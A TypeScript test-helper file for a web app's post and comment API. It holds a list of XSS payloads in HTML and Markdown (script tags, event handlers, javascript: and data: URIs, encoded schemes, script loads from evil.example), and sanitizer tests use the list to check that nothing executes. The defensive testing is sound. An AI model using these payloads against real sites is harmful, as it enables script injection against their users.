/**
 * Posts, comments and group roles for tests, plus the XSS payloads every renderer test (API and
 * browser) feeds through `POST /api/posts`.
 */
import type { FastifyInstance } from 'fastify';
import type { Kysely } from 'kysely';
import { expect } from 'vitest';
import type { Database } from '../../server/src/db/schema.js';
import type { GroupRole } from '../../server/src/db/tables/places-and-groups.js';
import type { LatLng } from './geo.js';
import type { TestUser } from './users.js';

let counter = 0;

export async function createPost(
  app: FastifyInstance,
  user: TestUser,
  fields: { location?: LatLng; placeId?: number; groupId?: number; title?: string; body?: string } = {},
) {
  counter += 1;
  const response = await app.inject({
    method: 'POST',
    url: '/api/posts',
    headers: user.auth,
    payload: { title: `Post ${counter}`, body: `Body of post ${counter}.`, ...fields },
  });
  expect(response.statusCode, response.body).toBe(201);
  return response.json();
}

export async function addComment(
  app: FastifyInstance,
  user: TestUser,
  postId: number,
  body: string,
  parentId?: number,
) {
  const response = await app.inject({
    method: 'POST',
    url: `/api/posts/${postId}/comments`,
    headers: user.auth,
    payload: { body, ...(parentId === undefined ? {} : { parentId }) },
  });
  expect(response.statusCode, response.body).toBe(201);
  return response.json();
}

/** Gives `user` a role in the group straight in the table (membership has its own routes and tests). */
export async function setRole(db: Kysely<Database>, groupId: number, userId: number, role: GroupRole): Promise<void> {
  await db
    .insertInto('group_members')
    .values({ group_id: groupId, user_id: userId, role })
    .onConflict((conflict) => conflict.columns(['group_id', 'user_id']).doUpdateSet({ role }))
    .execute();
}

/**
 * Markdown and HTML that try to run script, load content or smuggle attributes. None of it may
 * survive rendering: see tests/api/sanitize.test.ts (server output) and the browser test (DOM).
 */
export const XSS_PAYLOADS: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<IMG SRC="javascript:alert(1);">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<body onload=alert(1)>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<style>body{display:none}</style>',
  '<p style="background:url(javascript:alert(1))">styled</p>',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="JaVaScRiPt:alert(1)">click</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">click</a>',
  '<div onmouseover="alert(1)">hover</div>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button>go</button></form>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '[click](javascript:alert(1))',
  '[click](JAVASCRIPT:alert(1))',
  '[click](&#106;avascript:alert(1))',
  '[click](javascript&#58;alert(1))',
  '[click](<javascript:alert(1)>)',
  '[click](  javascript:alert(1)  )',
  '[click](vbscript:msgbox(1))',
  '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[click](https://example.org "title\\" onmouseover=\\"alert(1)")',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '![x](javascript:alert(1))',
  '![x" onerror="alert(1)](https://example.org/x.png)',
  '<javascript:alert(1)>',
  '<data:text/html,<script>alert(1)</script>>',
  '[ref]: javascript:alert(1)\n\n[click][ref]',
  '`<script>alert(1)</script>`',
  '```html\n<script>alert(1)</script>\n```',
  '<a href="https://example.org" target="_blank" onclick="alert(1)">ok</a>',
  '[ok](https://example.org){target=_blank onclick=alert(1)}',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
];

/** The body of a post that holds every payload, for creating it against a running server. */
export function xssPostBody(location: LatLng): { title: string; body: string; location: LatLng } {
  return {
    title: '<script>alert("title")</script> XSS test post',
    body: XSS_PAYLOADS.map((payload, index) => `Payload ${index + 1}:\n\n${payload}`).join('\n\n'),
    location,
  };
}
